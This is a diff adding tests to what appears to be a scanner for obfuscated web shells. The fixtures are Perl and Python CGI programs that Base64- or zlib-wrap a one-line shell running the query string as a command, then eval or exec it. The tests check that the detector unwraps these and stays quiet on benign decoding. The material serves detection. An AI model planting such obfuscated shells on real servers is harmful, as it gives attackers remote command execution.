@@ -436,3 +436,48 @@ echo base64_decode('R0lGODlhAQABAIAAAP///wAAACwAAAAAAQABAAACAkQBADs=');
 """
     reasons = decode_only(page, "page.php")
     assert all(not r.id.startswith("WH-ENGINE") for r in reasons)
+
+
+# --- CGI programs: an evaluator over decoder calls on a variable ----------------------------------
+
+
+PERL_CMD = b'print "Content-type: text/plain\\n\\n"; my $c = $ENV{QUERY_STRING}; print `$c`;'
+
+
+@pytest.mark.parametrize(
+    "program",
+    [
+        # a helper of the program's own under a decoder's name, the literal kept in a variable
+        b'#!/usr/bin/perl\n$code = "' + base64.b64encode(PERL_CMD) + b'";\n'
+        b"sub b64decode { return MIME::Base64::decode_base64(shift) }\neval(b64decode($code));\n",
+        # any helper name when the literal is Base64 through and through, and Perl's q{}
+        b"#!/usr/bin/perl\nuse MIME::Base64;\nsub _u { decode_base64(shift) }\nmy $k = q{"
+        + base64.b64encode(PERL_CMD + b" " * 40)
+        + b"};\neval _u($k);\n",
+    ],
+)
+def test_perl_eval_of_a_decoded_variable_is_unwrapped(program: bytes) -> None:
+    reasons = decode_only(program, "cgi-bin/status.pl")
+    assert any(r.id == ID_EVALUATED and r.score >= 70 for r in reasons), reasons
+
+
+def test_python_exec_of_a_compressed_variable_is_unwrapped() -> None:
+    inner = b"import os\nprint(os.popen(os.environ['QUERY_STRING']).read())\n"
+    blob = base64.b64encode(zlib.compress(inner))
+    program = (
+        b"import base64, zlib\nBLOB = (\n    '"
+        + blob
+        + b"'\n)\nexec(zlib.decompress(base64.b64decode(BLOB)))\n"
+    )
+    reasons = decode_only(program, "cgi-bin/run.py")
+    assert [r.description for r in reasons if r.id == ID_EVALUATED], reasons
+    assert "zlib" in next(r.description for r in reasons if r.id == ID_EVALUATED)
+
+
+def test_decoded_variables_not_evaluated_or_not_base64_stay_quiet() -> None:
+    image = base64.b64encode(bytes(range(200)))
+    printed = b'#!/usr/bin/perl\n$logo = "' + image + b'";\nprint decode_base64($logo);\n'
+    assert decode_only(printed, "cgi-bin/logo.pl") == []
+    # a helper of another name over a literal that is not Base64 alone decodes nothing
+    prose = b'#!/usr/bin/perl\n$t = "hello world, this is a plain sentence that goes on.";\neval(fmt($t));\n'
+    assert decode_only(prose, "cgi-bin/t.pl") == []
